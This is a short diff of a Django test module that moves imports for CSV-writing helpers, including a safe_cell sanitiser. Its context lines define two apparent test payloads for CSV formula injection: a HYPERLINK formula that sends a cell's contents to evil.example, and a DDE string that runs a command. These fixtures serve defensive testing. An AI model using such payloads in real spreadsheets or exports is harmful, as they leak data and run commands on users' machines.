@@ -15,9 +15,9 @@ import pytest
 from django.core.management import call_command
 
 from analytics.models import Finding, MiningRun, PersonMetric, RunStatus, Severity
+from devtools.synthetic import write_rows
 from people.models import Context, Person
-from people.synthetic import write_rows
-from sociograph.csv_output import csv_writer, safe_cell
+from sociograph.ingest.csv_output import csv_writer, safe_cell
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
 DDE = "-2+3+cmd|' /C calc'!A0"
